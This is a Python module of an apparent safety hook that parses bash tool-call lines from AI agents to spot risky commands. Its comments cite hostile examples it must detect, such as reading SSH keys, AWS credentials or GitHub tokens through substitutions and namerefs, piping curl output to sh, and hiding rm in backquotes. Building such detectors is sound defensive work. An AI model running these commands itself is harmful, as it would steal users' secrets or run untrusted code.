"""From bash source text to the list of simple commands that will run.

tree-sitter-bash gives the syntax tree; this module walks it and evaluates
words statically (quotes, escapes, ``$'..'``, brace expansion, literal
variables, ``~``), keeping a placeholder for what only the running shell knows.
It records, for every command, the pipeline feeding its stdin, its redirects,
here-documents and the directory it runs in (``cd`` is followed).
"""

from __future__ import annotations

from .. import pathstr
from ..paths import DYN, resolve
from .ir import BASH_BUILTINS, LINE_SET, NOT_RUN, Redirect, SimpleCommand, Word
from .limits import PARSE_DEADLINE as PARSE_DEADLINE
from .limits import ParseFailure as ParseFailure
from .limits import ParseTimeout as ParseTimeout
from .limits import TooLarge as TooLarge
from .outputs import pipeline_output
from .plain import MAX_PLAIN
from .plain import tree as plain_tree
from .treesitter import parser

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator
    from typing import Any

MAX_SOURCE = 100_000  # characters; longer input is not analysed
MAX_DEPTH = 150  # syntax-tree nesting
MAX_COMMANDS = 2_000
# Of the tool call's own line (issue 16, adv16c): each distinct command of a line is analysed alone, 0.15-0.4 ms each
# (its rules, its effects resolved on the file system), and a line of 2,000 distinct `mv aN bN` took 0.3-0.6 s, one of
# `curl -o aN URL` up to the engine's deadline. A line typed by an agent holds a few dozen commands; the long scripts of
# a system (~1,000 commands) are read from disk at a deeper level (engine._check_scripts), where MAX_COMMANDS holds.
# Past this many the line is not analysed: asked (shell.parse-error), never allowed unread.
MAX_LINE_COMMANDS = 200
# The words of those commands (their operands: each a path resolved on the file system, a URL, a mount judged alone,
# 0.05-0.15 ms each): `chmod 755` or `cp` of 9,000 files took 0.9-1.4 s, `docker run` with 5,000 `-v` 0.7 s. An agent's
# line holds a few dozen; past this many the line is asked, as past MAX_LINE_COMMANDS (engine.analyse_shell).
MAX_LINE_WORDS = 1_000


_REPARSING = frozenset({"eval", "source", ".", "bash", "sh", "zsh", "dash", "ksh", "exec", "command", "builtin", "xargs", "env"})


_CHUNK = 1 << 16
# Shorter sources parse in well under the budget whatever they hold (4 KB of `a|`: ~0.15 s).
_TIMED_PARSE_MIN = 4096
MAX_PIPES = 1000
PRECHECK_MIN = 1024  # characters; shell/precheck.py runs on longer commands
# Syntax-tree nodes clearance walks (about 3 µs each): the largest command of the evaluation sets has
# 298, the largest of 867 system shell scripts about 8 000 (/usr/bin/ucf, 41 KB); bench/worst_case.py.
MAX_NODES = 15_000


class Script:
    """Result of parsing: the commands, and anything that hid from the analysis."""

    __slots__ = ("commands", "problems", "kept", "defined", "exported", "cwd", "dirs")

    def __init__(self) -> None:
        self.commands: list[SimpleCommand] = []
        # (rule id, message): constructs the analyser could not see through.
        self.problems: list[tuple[str, str]] = []
        # The variables the line sets in its own shell (not for one command), as it leaves them (`export PATH=/tmp/bin:$PATH`:
        # PATH -> "/tmp/bin:" DYN). A shell that outlives the call (Copilot CLI's bash sessions) keeps them for every later
        # command (shell/persist.py).
        self.kept: dict[str, str] = {}
        # The functions the line defines (name -> the body's text), which such a shell keeps for later commands too.
        self.defined: dict[str, str] = {}
        # The variables the line leaves exported (`export NAME=VALUE`; "" once unset): an agent whose shell keeps its
        # environment between calls carries them to its later calls (provenance's ``y`` records).
        self.exported: dict[str, str] = {}
        # The working directory the line leaves its shell in (None: not known -- `cd $X`, `popd` of a stack the line did
        # not fill, a `cd` in eval'd text): a shell that outlives the call starts its next command there (shell/persist.py).
        self.cwd: str | None = None
        # pushd's stack as the line leaves it (the folders popd goes back to, last on top; None: not known).
        self.dirs: list[str | None] = []


# The builtins that change the shell's working directory (_Walker._follow_cd).
_DIR_CHANGERS = frozenset({"cd", "pushd", "popd"})

_IDENT_START = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz_")
_IDENT_REST = _IDENT_START | frozenset("0123456789")


def _settable(value: str) -> str | None:
    """The variable a command word may set: the word is a name (`read TOKEN`, `mapfile TOKEN`), an option glued
    to one (`printf -vTOKEN`) or an assignment (`eval TOKEN=…`, `let TOKEN+=1`, `declare TOKEN[0]=…`)."""
    if value.startswith("-v"):
        value = value[2:]
    end = 0
    while end < len(value) and value[end] in _IDENT_REST:
        end += 1
    if not end or value[0] not in _IDENT_START or (end < len(value) and value[end] not in "=+["):
        return None
    return value[:end]


# Nodes that leave a command's standard input the script's own: a list (`a && b`, `a; b`), `! cmd`, the command's
# own redirections (judged on the command).  A pipe, loop, group, subshell, function body, substitution or
# here-document around a command may give it other input.
_SAME_INPUT = frozenset({"program", "list", "negated_command", "redirected_statement"})


def _tool_input(node: Any) -> bool:
    """Whether the command at *node* reads the standard input of the whole script (see SimpleCommand.ownstdin)."""
    n = node.parent
    while n is not None:
        if n.type not in _SAME_INPUT:
            return False
        n = n.parent
    return True


class _State:
    __slots__ = (
        "vars",
        "cwd",
        "home",
        "script",
        "level",
        "env",
        "source",
        "exported",
        "sources",
        "outer_refs",
        "opaque",
        "export_names",
        "namerefs",
        "cond",
        "cased",
        "locals",
        "hashed",
        "disabled",
        "unset",
        "readonly",
        "fds",
        "fd_openers",
        "physical",
        "cdable",
        "allexport",
        "traps",
        "read_write",
        "stdin_moved",
        "origins",
        "reading",
        "unsure",
        "max_commands",
        "dirs",
    )

    def __init__(self, cwd: str | None, home: str, script: Script, level: int, env: dict[str, str]) -> None:
        self.vars: dict[str, str] = {}
        self.max_commands = MAX_COMMANDS  # parse(max_commands=): fewer for the tool call's own line (MAX_LINE_COMMANDS)
        # An `exec` with redirections ran: the script's own descriptors (its standard input among them) may be others
        # from then on.
        self.stdin_moved = False
        # Variables whose value is a command's output, with the words that set them (`for p in $(pgrep -f x)`,
        # `P=$(pgrep x)`, `T=$(gh auth token)`, `pgrep x | while read p`): Word.origin of a word that reads them.
        self.origins: dict[str, tuple[Word, ...]] = {}
        # The origins of the variables read so far (appended by _var as words are evaluated): a word's own are those
        # appended while it was (Parser.word), a nested word's among them.
        self.reading: list[Word] = []
        # Names assigned without export that the agent's shell may export (SimpleCommand.unsure_env); "*" once a
        # `source FILE` or `eval` ran (it may export anything).
        self.unsure: set[str] = set()
        # Each `trap` command with the variables known when it ran (see _bind_traps).
        self.traps: list[tuple[SimpleCommand, dict[str, str]]] = []
        # Byte offsets of the `<>` operators read as `< ` (tree-sitter-bash has no `<>`; _read_write_redirects).
        self.read_write: frozenset[int] = frozenset()
        # Variables this script exports: the environment of every later command (export PIP_INDEX_URL=…; pip install).
        self.exported: dict[str, str] = {}
        # Names given the export attribute before they had a value (`export NAME; NAME=x`): later assignments export.
        self.export_names: set[str] = set()
        # declare -n REF=NAME: assigning REF assigns NAME.
        self.namerefs: dict[str, str] = {}
        # Per function being read: the values its `local` (and declare/typeset) names had outside it, put back after.
        self.locals: list[dict[str, str | None]] = []
        # readonly NAME: later assignments and unset fail, the value stays.
        self.readonly: set[str] = set()
        # Names `unset` here (and not assigned since): known to be unset.
        self.unset: set[str] = set()
        # `hash -p PATH NAME`: NAME runs PATH from then on (a builtin of that name first, unless `enable -n` took it);
        # assigning PATH or `hash -r` empties the table.
        self.hashed: dict[str, Word] = {}
        self.disabled: set[str] = set()
        # declare -l / -u NAME: NAME's values are lower- / upper-cased.
        self.cased: dict[str, str] = {}
        # Depth of code that may not run (a branch of an if or case, a loop body, the right of && or ||).
        self.cond = 0
        # `set -P` / `set -o physical`: every later cd walks links physically (as `cd -P`).
        self.physical = False
        # `shopt -s cdable_vars`: a `cd NAME` that finds no folder NAME goes to the folder $NAME holds.
        self.cdable = False
        # `set -a` / `set -o allexport`: every variable assigned from then on is exported (the environment of every later
        # command, as `export NAME=value` is).
        self.allexport = False
        self.cwd = cwd
        # pushd's stack of the folders it left, as far as this line filled it (popd past it: not known).
        self.dirs: list[str | None] = []
        self.home = home
        self.script = script
        self.level = level  # nesting of re-parsed strings (bash -c, eval, ...)
        self.env = env
        self.source = b""
        # Where the value of a variable this script assigned came from: the variables of the environment its
        # text names (`h=$(echo -n "$pw" | sha256sum)`: those of $pw). A variable named here stands for them.
        self.sources: dict[str, tuple[str, ...]] = {}
        self.outer_refs: tuple[str, ...] | None = None  # see _Walker.outer_refs
        # Variables set some way other than an assignment (a loop, `read X`, `printf -v X`): their values come from
        # where clearance does not follow, so what is assigned from them keeps standing for itself. None: any variable
        # (after `source`, `eval`).
        self.opaque: set[str] | None = set()
        # Descriptors 3 and up that `exec` opened here (None once closed), and the exec redirect that opened each one
        # while nothing has used it in a way clearance cannot follow (`>&$fd`): closed unused, it sent nothing.
        self.fds: dict[str, Redirect | None] = {}
        self.fd_openers: dict[str, tuple[SimpleCommand, Redirect]] = {}


_ANSI = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "f": "\f", "v": "\v", "e": "\x1b", "E": "\x1b", "\\": "\\", "'": "'", '"': '"', "?": "?"}


def decode_ansi_c(body: str) -> str:
    """Decode the inside of a ``$'...'`` word as bash does."""
    out: list[str] = []
    i, n = 0, len(body)
    while i < n:
        c = body[i]
        if c != "\\" or i + 1 >= n:
            out.append(c)
            i += 1
            continue
        e = body[i + 1]
        i += 2
        if e in _ANSI:
            out.append(_ANSI[e])
        elif e == "x":
            j = i
            while j < n and j < i + 2 and body[j] in "0123456789abcdefABCDEF":
                j += 1
            out.append(chr(int(body[i:j], 16)) if j > i else "\\x")
            i = j
        elif e in "uU":
            width = 4 if e == "u" else 8
            j = i
            while j < n and j < i + width and body[j] in "0123456789abcdefABCDEF":
                j += 1
            try:
                out.append(chr(int(body[i:j], 16)) if j > i else "\\" + e)
            except (ValueError, OverflowError):
                out.append("?")
            i = j
        elif e in "01234567":
            j = i - 1
            while j < n and j < i + 2 and body[j] in "01234567":
                j += 1
            out.append(chr(int(body[i - 1 : j], 8) & 0xFF))
            i = j
        elif e == "c" and i < n:
            out.append(chr(ord(body[i]) & 0x1F))
            i += 1
        else:
            out.append("\\" + e)
    return "".join(out)


_PROTECT = str.maketrans({"{": "\ue0fb", ",": "\ue0fc", "}": "\ue0fd"})
_UNPROTECT = str.maketrans({"\ue0fb": "{", "\ue0fc": ",", "\ue0fd": "}"})


def _protected(value: str, flags: dict[str, bool]) -> str:
    return value.translate(_PROTECT) if flags["protect"] else value


def _ifs_head(text: str) -> bool:
    """A word tree-sitter split off after `$` that starts with the name IFS (`IFS/etc`, not `IFSX`)."""
    return text.startswith("IFS") and not (len(text) > 3 and (text[3].isalnum() or text[3] == "_"))


def _ifs_expansion(node: Any) -> bool:
    """An unquoted `$IFS` or `${IFS}` (the whole node, no operator)."""
    return node.type in ("simple_expansion", "expansion") and _text(node) in ("$IFS", "${IFS}")


def _unescape_unquoted(text: str, protect: bool = False) -> str:
    if "\\" not in text:
        return text
    out: list[str] = []
    i = 0
    while i < len(text):
        c = text[i]
        if c == "\\" and i + 1 < len(text):
            if text[i + 1] != "\n":
                out.append(text[i + 1].translate(_PROTECT) if protect else text[i + 1])
            i += 2
            continue
        out.append(c)
        i += 1
    return "".join(out)


def _unescape_dquoted(text: str) -> str:
    if "\\" not in text:
        return text
    out: list[str] = []
    i = 0
    while i < len(text):
        c = text[i]
        if c == "\\" and i + 1 < len(text) and text[i + 1] in '$`"\\\n':
            if text[i + 1] != "\n":
                out.append(text[i + 1])
            i += 2
            continue
        out.append(c)
        i += 1
    return "".join(out)


def expand_braces(value: str, limit: int = 64) -> list[str]:
    """Bash brace expansion of one word: ``{a,b}c`` -> ``ac bc``; ``{1..3}``."""
    start = value.find("{")
    if start == -1:
        return [value]
    depth = 0
    for j in range(start, len(value)):
        ch = value[j]
        if ch == "{":
            depth += 1
        elif ch == "}":
            depth -= 1
            if depth == 0:
                inner = value[start + 1 : j]
                pre, post = value[:start], value[j + 1 :]
                alts = _split_top(inner)
                if len(alts) < 2:
                    seq = _sequence(inner)
                    if seq is None:
                        rest = expand_braces(post, limit)
                        return [pre + "{" + inner + "}" + r for r in rest][:limit]
                    alts = seq
                out: list[str] = []
                for a in alts:
                    for r in expand_braces(pre + a + post, limit):
                        out.append(r)
                        if len(out) >= limit:
                            return out
                return out
    return [value]


def _split_top(inner: str) -> list[str]:
    parts: list[str] = []
    cur: list[str] = []
    depth = 0
    for ch in inner:
        if ch == "{":
            depth += 1
        elif ch == "}":
            depth -= 1
        if ch == "," and depth == 0:
            parts.append("".join(cur))
            cur = []
        else:
            cur.append(ch)
    parts.append("".join(cur))
    return parts


def _sequence(inner: str) -> list[str] | None:
    a, sep, b = inner.partition("..")
    if not sep or ".." in b:
        return None
    if a.lstrip("-").isdigit() and b.lstrip("-").isdigit():
        x, y = int(a), int(b)
        step = 1 if y >= x else -1
        if abs(y - x) > 64:
            return [str(x), DYN]
        return [str(i) for i in range(x, y + step, step)]
    if len(a) == 1 and len(b) == 1:
        x, y = ord(a), ord(b)
        step = 1 if y >= x else -1
        return [chr(i) for i in range(x, y + step, step)]
    return None


def _backquoted(text: str) -> list[str]:
    """The commands of the backquoted substitutions in *text*, a here-document body with its `$( )` taken out: a
    backslash quotes the next character (an escaped backquote is text), and inside the backquotes \\\\, \\` and \\$
    stand for the character they quote.  A backquote left open is bash's error, not a command."""
    out: list[str] = []
    i, n = 0, len(text)
    while i < n:
        ch = text[i]
        if ch == "\\":
            i += 2
            continue
        if ch != "`":
            i += 1
            continue
        j, code = i + 1, []
        while j < n and text[j] != "`":
            if text[j] == "\\" and j + 1 < n:
                nxt = text[j + 1]
                code.append(nxt if nxt in "\\`$" else "\\" + nxt)
                j += 2
                continue
            code.append(text[j])
            j += 1
        if j >= n:
            break
        out.append("".join(code))
        i = j + 1
    return out


def _text(node: Any) -> str:
    t: bytes = node.text
    return t.decode("utf-8", "replace")


# The walker's methods for less usual constructs, by the module that holds them (imported the first time one is asked
# for: _Walker.__getattr__), so that a cold hook reading an ordinary line does not load their code (issue 16).
LATER = {
    "_read_from_pipe": "parse_expand",
    "subscript_code": "parse_expand",
    "evaluated_later": "parse_expand",
    "_var": "parse_expand",
    "_var_state": "parse_expand",
    "_alternative": "parse_expand",
    "_expansion": "parse_expand",
    "_quoted_compound": "parse_expand",
    "_backquoted_operand": "parse_expand",
    "_default_expansion": "parse_expand",
    "_for": "parse_expand",
    "assignment": "parse_expand",
    "record_sources": "parse_expand",
    "outer_refs": "parse_expand",
    "words_sources": "parse_expand",
    "_outside_definitions": "parse_functions",
    "plain_line": "parse_functions",
    "uncallable": "parse_functions",
    "define": "parse_functions",
    "call": "parse_functions",
    "read_body": "parse_functions",
    "_exec_descriptors": "parse_builtins",
    "_use_descriptors": "parse_builtins",
    "_assigning_builtin": "parse_builtins",
    "_lookup_table": "parse_builtins",
    "_follow_cd": "parse_builtins",
    "_follow_wrapped_cd": "parse_builtins",
    "_activate": "parse_builtins",
    "_cdpath": "parse_builtins",
    "_shopt": "parse_builtins",
}


class _Walker:
    def __init__(self, st: _State) -> None:
        self.st = st
        self.pending: list[Any] = []
        # Functions the script defines: the body and the directory it was defined in. A body is read where the
        # function is called, with the call's words as $1, $2 …; bodies no call reached (called through a
        # wrapper, xargs, another shell, or never) are read once at the end with their parameters unknown.
        self.functions: dict[str, tuple[Any, str | None]] = {}
        self.calls: dict[str, int] = {}
        self.active: set[str] = set()
        self.generic: set[str] = set()
        # While a body is read for a call: the environment variables its words name (what $1, $2 … are made of).
        self.arg_sources: tuple[str, ...] | None = None
        # Whether code that cannot run as written is marked (NOT_RUN): the tool call's own line only, never a file a
        # later command may source or call into.  The byte spans of the line's function definitions.
        self.mark_inert = False
        self.def_spans: list[tuple[int, int]] = []
        self._plain: bool | None = None
        # The builtins `enable -n` switched off for the rest of the line (a name then runs the program PATH finds).
        self.disabled: set[str] = set()

    def _enable(self, cmd: SimpleCommand) -> None:
        """`enable -n NAME…` switches builtins off, `enable NAME…` back on (other forms list or load them)."""
        flags = "".join(a.value[1:] for a in cmd.args if a.value.startswith("-") and a.value != "--")
        if any(c in flags for c in "afdps"):
            return  # -a/-p/-s list, -f/-d load or delete a loadable builtin (judged as such elsewhere)
        names = [a.value for a in cmd.args if not a.value.startswith("-")]
        if "n" in flags:
            self.disabled.update(names)
        else:
            self.disabled.difference_update(names)

    def __getattr__(self, name: str) -> Any:
        """A method of LATER: its module is imported and all its methods become _Walker's (methods of a holder class
        there, verbatim); any other missing attribute is an AttributeError as usual."""
        module = LATER.get(name)
        if module is None:
            raise AttributeError(name)
        holder = __import__(module, globals(), None, ("Methods",), 1).Methods
        for key, value in vars(holder).items():
            if key in LATER:
                setattr(_Walker, key, value)
        return getattr(self, name)

    def _mark(self, start: int, why: str) -> None:
        label = why + NOT_RUN
        for c in self.st.script.commands[start:]:
            if label not in c.via:
                c.via = (*c.via, label)

    def finish(self) -> None:
        """Read the bodies no call reached, with their parameters unknown."""
        for _ in range(len(self.functions) + 8):
            left = [n for n in self.functions if self.calls.get(n, 0) == 0 and n not in self.generic]
            if not left:
                return
            for name in left:
                start = len(self.st.script.commands)
                self.read_body(name, None, 1)
                if self.mark_inert and self.uncallable(name):
                    self._mark(start, f"function {name}, which nothing calls")

    def trailing(self, cmd: SimpleCommand, nodes: list[Any], depth: int) -> None:
        """Handle the nodes tree-sitter nested inside a here-document redirect of *cmd*."""
        upstream = [cmd]
        for n in nodes:
            if n.type in ("file_redirect", "herestring_redirect", "heredoc_redirect"):
                cmd.redirects = [*cmd.redirects, self.redirect(n, depth)]
            elif n.type == "pipeline":
                for c in n.children:
                    if c.is_named:
                        start = len(self.st.script.commands)
                        self.walk(c, depth + 1, list(upstream))
                        produced = self.st.script.commands[start:]
                        for p in upstream:
                            p.piped = True
                        upstream = upstream + produced
            elif n.type in ("command", "redirected_statement") and upstream[-1] is cmd and n.prev_sibling is not None and n.prev_sibling.type == "|":
                self.walk(n, depth + 1, [cmd])
                cmd.piped = True
            else:
                self.walk(n, depth + 1, None)

    # -- words ---------------------------------------------------------------

    def word(self, node: Any, depth: int, protect: bool = False, unsplit: bool = False) -> Word:
        """Evaluate one word; with *protect*, quoted and escaped ``{``, ``,``, ``}``
        (and those from expansions) come back as stand-ins brace expansion skips."""
        if depth <= MAX_DEPTH and node.type == "word":
            # Most words are plain: what _eval makes of one, without the bookkeeping substitutions need.
            raw = _text(node)
            value = _unescape_unquoted(raw, protect)
            if "[" in value:
                self.subscript_code(value)
            return Word(value, raw)
        subs: list[SimpleCommand] = []
        vars_: list[str] = []
        # unsplit: a context bash does not split into words (the value of an assignment).
        flags = {"procsub": False, "quoted": False, "protect": protect, "in_dq": unsplit}
        reading = self.st.reading
        mark = len(reading)
        value = self._eval(node, depth, subs, vars_, flags)
        if "[" in value and flags["quoted"]:
            self.subscript_code(value)
        w = Word(value, _text(node), subs, flags["procsub"], tuple(vars_), flags["quoted"])
        if len(reading) > mark:
            # What the variables it read were set from; kept (once each) for the word this one is part of.
            reading[mark:] = w.origin = tuple(dict.fromkeys(reading[mark:]))
        return w

    def _eval(self, node: Any, depth: int, subs: list[SimpleCommand], vars_: list[str], flags: dict[str, bool]) -> str:
        if depth > MAX_DEPTH:
            raise TooLarge("the command is nested too deeply to analyse")
        t = node.type
        if t == "word":
            return _unescape_unquoted(_text(node), flags["protect"])
        if t == "number" or t == "file_descriptor":
            return _text(node)
        if t == "raw_string":
            flags["quoted"] = True
            return _protected(_text(node)[1:-1], flags)
        if t == "ansi_c_string":
            flags["quoted"] = True
            return _protected(decode_ansi_c(_text(node)[2:-1]), flags)
        if t in ("string", "translated_string"):
            flags["quoted"] = True
            parts: list[str] = []
            raw: bytes = node.text
            base = node.start_byte
            pos = 2 if raw.startswith(b'$"') else 1
            end = len(raw) - 1 if len(raw) > pos and raw.endswith(b'"') else len(raw)
            for c in node.children:
                ct = c.type
                if ct == '"' or ct == '$"':
                    continue
                # Text between the parts is content too: tree-sitter leaves blank-only content
                # (`" "`) to the closing quote's token.
                if c.start_byte - base > pos:
                    parts.append(_protected(_unescape_dquoted(raw[pos : c.start_byte - base].decode("utf-8", "replace")), flags))
                if ct == "string_content":
                    parts.append(_protected(_unescape_dquoted(_text(c)), flags))
                else:
                    outer, flags["in_dq"] = flags.get("in_dq", False), True
                    parts.append(_protected(self._eval(c, depth + 1, subs, vars_, flags), flags))
                    flags["in_dq"] = outer
                pos = max(pos, c.end_byte - base)
            if end > pos:
                parts.append(_protected(_unescape_dquoted(raw[pos:end].decode("utf-8", "replace")), flags))
            return "".join(parts)
        if t == "concatenation":
            return "".join(self._eval(c, depth + 1, subs, vars_, flags) for c in node.children)
        if t == "simple_expansion":
            name = _text(node)[1:]
            vars_.extend(self.st.sources.get(name, (name,)))
            if name in self.st.namerefs:
                # `declare -n r=GITHUB_TOKEN; echo $r`: $r reads the variable r names (round 14b's indirect reads)
                target = self.st.namerefs[name]
                vars_.extend(self.st.sources.get(target, (target,)))
            if self.st.opaque is None or name in self.st.opaque:
                vars_.append(LINE_SET)
            return _protected(self._var(name), flags)
        if t == "expansion":
            return _protected(self._expansion(node, depth, subs, vars_, flags), flags)
        if t in ("command_substitution", "process_substitution"):
            if t == "process_substitution":
                flags["procsub"] = True
            inner = self.substitution(node, depth)
            subs.extend(inner)
            if t == "command_substitution":
                # `cat $(echo ~/.ssh/id_rsa)`, `"$(find ~/.aws -name credentials)"`: the word is what the
                # substitution prints when that is known (text, or some path under a root); unquoted text
                # that would split into several words stays unknown.
                out = pipeline_output(inner)
                if out is None and len(inner) == 1 and inner[0].name in ("true", ":", "false") and not inner[0].redirects:
                    return ""  # `/$(true)`: a command that prints nothing adds nothing to the word
                if out is not None:
                    out = out.rstrip("\n")
                    if out and (DYN in out or flags.get("in_dq") or not any(ch in out for ch in " \t\n")):
                        return _protected(out, flags)
            return DYN
        if t == "arithmetic_expansion":
            subs.extend(self.substitution(node, depth))
            return DYN
        if t == "brace_expression":
            # `{1..3}`; tree-sitter folds an escape before it into its `{` token (`\${1..3}`).
            return "".join(
                self._eval(c, depth + 1, subs, vars_, flags) if c.is_named else _unescape_unquoted(_text(c), flags["protect"]) for c in node.children
            )
        if t in ("$", '"'):
            nxt = node.next_sibling
            while nxt is not None and nxt.type == "concatenation" and nxt.child_count:
                nxt = nxt.children[0]
            raw_tok: bytes = node.text
            if (
                t == "$"
                and raw_tok.endswith(b"$")
                and not raw_tok.endswith(b"\\$")
                and nxt is not None
                and nxt.type == "string"
                and nxt.start_byte == node.end_byte
            ):
                # $"..." is a (locale-translated) double-quoted string; tree-sitter may fold a prefix into the `$` token (`-$""`).
                return _unescape_unquoted(raw_tok[:-1].decode("utf-8", "replace"), flags["protect"])
            return _unescape_unquoted(_text(node), flags["protect"])
        # Anything else (extglob patterns, regexes, ...) is taken literally,
        # but substitutions inside it still run.
        for c in node.children:
            if c.type in ("command_substitution", "process_substitution"):
                subs.extend(self.substitution(c, depth + 1))
        return _text(node)

    def substitution(self, node: Any, depth: int) -> list[SimpleCommand]:
        """Walk the commands inside ``$( )``, backticks or ``<( )``; they run too."""
        raw = _text(node)
        if raw[:1] == "`" and raw[-1:] == "`" and len(raw) > 1 and ("\\" in raw or "`" in raw[1:-1]):
            # Inside backquotes bash reads \\, \` and \$ as the character they quote, then parses the body again:
            # `echo \`rm x\`` runs rm (a nested substitution), which tree-sitter's tree holds as the text "\`rm". And a
            # substitution ends at the first backquote not escaped: tree-sitter reads `a` `b` (or `a``b`) as one
            # substitution whose body holds a "` `" token, so the second command was never seen (round 15e). Each
            # substitution is read as bash delimits it, its body unescaped (as a here-document's are: _backquoted).
            codes = _backquoted(raw)
            if codes != [raw[1:-1]]:
                start = len(self.st.script.commands)
                for code in codes:
                    self.backquoted(code, depth + 1, "a backquoted substitution")
                return self.st.script.commands[start:]
        saved_cwd = self.st.cwd
        saved_pending, self.pending = self.pending, []
        start = len(self.st.script.commands)
        for c in node.children:
            if c.type == "file_redirect":
                # `$(< FILE)`: bash's shorthand for `$(cat FILE)`, the file's contents.
                self.st.script.commands.append(SimpleCommand([Word("cat", "cat")], redirects=[self.redirect(c, depth)], cwd=self.st.cwd, text=_text(node)))
            elif c.is_named:
                self.walk(c, depth + 1, None)
        for n in self.pending:
            self.walk(n, depth + 1, None)
        self.pending = saved_pending
        self.st.cwd = saved_cwd
        inner = self.st.script.commands[start:]
        for c in inner:
            c.captured = True
        return inner

    # -- statements ----------------------------------------------------------

    def walk(self, node: Any, depth: int, pipe_src: list[SimpleCommand] | None) -> None:
        if depth > MAX_DEPTH:
            raise TooLarge("the command is nested too deeply to analyse")
        if len(self.st.script.commands) > self.st.max_commands:
            raise TooLarge(f"the command holds more than {self.st.max_commands} commands, more than clearance analyses in one line")
        t = node.type
        if t == "command":
            self.command(node, depth, pipe_src, [])
        elif t == "function_definition":
            self.define(node)
        elif t == "redirected_statement":
            self.redirected(node, depth, pipe_src)
        elif t == "pipeline":
            upstream: list[SimpleCommand] = list(pipe_src or [])
            elements = [c for c in node.children if c.is_named]
            for k, c in enumerate(elements):
                start = len(self.st.script.commands)
                self.walk(c, depth + 1, list(upstream) if upstream else None)
                produced = self.st.script.commands[start:]
                if k < len(elements) - 1:
                    for cmd in produced:
                        cmd.piped = True
                # A command whose standard output a redirection sends elsewhere (`curl URL > f | sh`) writes nothing
                # into the pipe: bash connects the pipe first, then performs the command's redirections.
                upstream.extend(cmd for cmd in produced if not _output_elsewhere(cmd))
        elif t == "variable_assignment":
            self.assignment(node, depth)
        elif t == "unset_command":
            # `unset HOME; claude …`: what follows runs without the variable (no longer the value clearance assumes).
            # `unset -f NAME` removes a function of that name, not the variable.
            if any(c.type == "word" and _text(c).startswith("-") and "f" in _text(c) for c in node.children[1:]):
                return
            for c in node.children[1:]:
                name = _text(c)
                if c.is_named:
                    self.word(c, depth + 1)  # unset 'a[$(cmd)]': the subscript is evaluated
                if c.type in ("variable_name", "word") and name.isidentifier() and name not in self.st.readonly:
                    self.st.exported[name] = ""  # absent: for what reads it, as good as empty
                    self.st.unsure.discard(name)
                    self.st.vars.pop(name, None)
                    self.st.sources.pop(name, None)
                    self.st.unset.add(name)
        elif t == "declaration_command" and _listing(node):
            # `declare -p`, `export -p`, `typeset -x`, bare `set`-like listings: a command that prints variables (the
            # environment among them) to its output, which a pipe or a redirection carries on.
            self.command(node, depth, pipe_src, [])
        elif t == "declaration_command":
            keyword = _text(node.children[0]) if node.children else ""
            global_ = any(c.type == "word" and _text(c).startswith("-") and "g" in _text(c) for c in node.children[1:])
            if self.st.locals and keyword in ("local", "declare", "typeset") and not global_:
                scope = self.st.locals[-1]
                for c in node.children:
                    local = _text(c.children[0]) if c.type == "variable_assignment" and c.children else _text(c) if c.type == "variable_name" else ""
                    if local.isidentifier() and local not in scope:
                        scope[local] = self.st.vars.get(local)
            flags = [_text(c) for c in node.children[1:] if c.type == "word" and _text(c).startswith("-")]
            exporting = keyword == "export" or (keyword in ("declare", "typeset") and any("x" in f for f in flags))
            if keyword == "export" and any("n" in f and not f.startswith("--") for f in flags):
                # `export -n NAME`: NAME keeps its value here but is no longer in the environment of what runs.
                exporting = False
                for c in node.children[1:]:
                    name = _text(c.children[0]) if c.type == "variable_assignment" and c.children else _text(c)
                    if c.type in ("variable_assignment", "variable_name", "word") and name.isidentifier():
                        self.st.exported.pop(name, None)
                        self.st.export_names.discard(name)
            making_readonly = keyword == "readonly" or (keyword in ("declare", "typeset") and any("r" in f and not f.startswith("--") for f in flags))
            nameref = keyword in ("declare", "typeset", "local") and any("n" in f and not f.startswith("--") for f in flags)
            for f in flags if keyword in ("declare", "typeset", "local") else ():
                # -l / -u: the variable's values are lower- or upper-cased on every assignment.
                case = "l" if "l" in f else "u" if "u" in f else ""
                if case and not f.startswith("--"):
                    for c in node.children:
                        if c.type == "variable_assignment" and c.children:
                            self.st.cased[_text(c.children[0])] = case
                        elif c.type in ("variable_name", "word") and _text(c).isidentifier():
                            self.st.cased[_text(c)] = case
            if any(("a" in f or "A" in f) and not f.startswith("--") for f in flags):
                self._quoted_compound(node, depth)
            # bash expands every word of a declaration before it assigns any: in `export A=rm B=$A`, B gets the old A.
            before = dict(self.st.vars)
            for c in node.children:
                if c.type == "variable_assignment" and nameref:
                    ref = _text(c.children[0]) if c.children else ""
                    target = _text(c).partition("=")[2].strip("'\"")
                    if ref.isidentifier() and target.isidentifier():
                        self.st.namerefs[ref] = target
                        self.st.sources.pop(ref, None)  # `local -n ref=TOKEN`: ref is another name for TOKEN
                    else:
                        self.subscript_code(target)  # `typeset -n r='a[$(cmd)]'; r=1`: the subscript runs at the assignment
                elif c.type == "variable_assignment":
                    now = self.st.vars
                    self.st.vars = dict(before)
                    try:
                        name, value = self.assignment(c, depth + 1)
                        got = self.st.vars.get(name, value) if name and name != DYN else value
                    finally:
                        self.st.vars = now
                    if name and name != DYN:
                        now[name] = got
                    if making_readonly and name and name != DYN:
                        self.st.readonly.add(name)
                    if exporting and name and name != DYN:
                        self.st.exported[name] = value
                        self.st.export_names.add(name)
                elif exporting and c.type in ("variable_name", "word") and _text(c) in self.st.vars:
                    self.st.exported[_text(c)] = self.st.vars[_text(c)]  # export NAME after NAME=value
                    self.st.export_names.add(_text(c))
                elif exporting and c.type in ("variable_name", "word") and _text(c).isidentifier():
                    self.st.export_names.add(_text(c))  # export NAME before any value: a later NAME=value exports
                elif c.is_named:
                    self.walk(c, depth + 1, None)
        elif t == "subshell":
            saved = self.st.cwd
            for c in node.children:
                if c.is_named:
                    self.walk(c, depth + 1, pipe_src)
            self.st.cwd = saved
        elif t in ("for_statement", "select_statement"):
            self.st.cond += 1
            try:
                self._for(node, depth)
            finally:
                self.st.cond -= 1
        elif t in ("command_substitution", "process_substitution", "arithmetic_expansion"):
            self.substitution(node, depth)
        elif t in ("word", "string", "concatenation", "raw_string", "expansion", "simple_expansion"):
            # Words in loops, case subjects, tests: evaluate for the substitutions they run.
            self.word(node, depth)
        elif t == "heredoc_body":
            self.heredoc_subs(node, depth)
        elif t == "comment":
            return
        else:
